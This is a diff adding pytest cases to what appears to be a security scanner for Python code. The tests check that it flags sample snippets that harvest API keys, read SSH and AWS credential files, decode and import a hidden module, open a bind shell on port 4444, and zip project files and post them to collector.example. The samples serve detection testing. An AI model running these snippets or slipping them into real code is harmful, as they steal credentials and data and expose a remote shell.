@@ -300,6 +300,62 @@ FUNCTIONS = (
 )
 
 
+KINDS = {
+    "keys of several services in a file": (
+        "gathers-secrets",
+        (
+            "import os, json\nd = {k: os.environ.get(k) for k in ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'STRIPE_KEY']}\n"
+            "open('/tmp/.c', 'w').write(json.dumps(d))\n"
+        ),
+    ),
+    "stores of secrets on the screen": (
+        "gathers-secrets",
+        (
+            "import json\nfrom pathlib import Path\no = {}\nfor p in ['~/.ssh/id_rsa', '~/.aws/credentials']:\n"
+            "    o[p] = Path(p).expanduser().read_text()\nprint(json.dumps(o))\n"
+        ),
+    ),
+    "a module that is decoded first": (
+        "self-extracting",
+        (
+            "import base64, sys, importlib\nopen('/tmp/help.py', 'w').write(base64.b64decode(DATA).decode())\n"
+            "sys.path.insert(0, '/tmp')\nimportlib.import_module('help').main()\n"
+        ),
+    ),
+    "a port that gives a shell": (
+        "shell-handed-over",
+        (
+            "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\nc, a = s.accept()\n"
+            "while True:\n    c.send(subprocess.run(c.recv(1024).decode(), shell=True, capture_output=True).stdout)\n"
+        ),
+    ),
+    "all files of a project": (
+        "file-sent",
+        (
+            "import os, requests, zipfile\nz = zipfile.ZipFile('/tmp/s.zip', 'w')\nfor r, d, f in os.walk('.'):\n"
+            "    for n in f:\n        z.write(os.path.join(r, n))\n"
+            "requests.post('https://collector.example/in', files={'f': open('/tmp/s.zip', 'rb')})\n"
+        ),
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_python_that_gathers_drops_or_listens_is_pointed_at(kind: str) -> None:
+    rule, text = KINDS[kind]
+    assert rule in {hit.rule for hit in python.check(text).hits if severity_of(hit) != "info"}
+
+
+def test_a_key_of_a_small_service_may_stand_where_the_service_asks_for_it() -> None:
+    for call in (
+        "requests.get(U, params={'api_key': k})",
+        "requests.get(f'{U}?appid={k}')",
+        "requests.post(U, data=k)",
+    ):
+        text = f"{IMPORTS}k = os.environ['WEATHERLY_KEY']\nU = 'https://api.other.io/v1'\n{call}\n"
+        assert worst(python.check(text).hits) == ("warn" if "post" in call else "info"), text
+
+
 @settings(max_examples=300)
 @given(st.data())
 def test_constants_of_the_wrong_type_break_no_folding(data: st.DataObject) -> None:
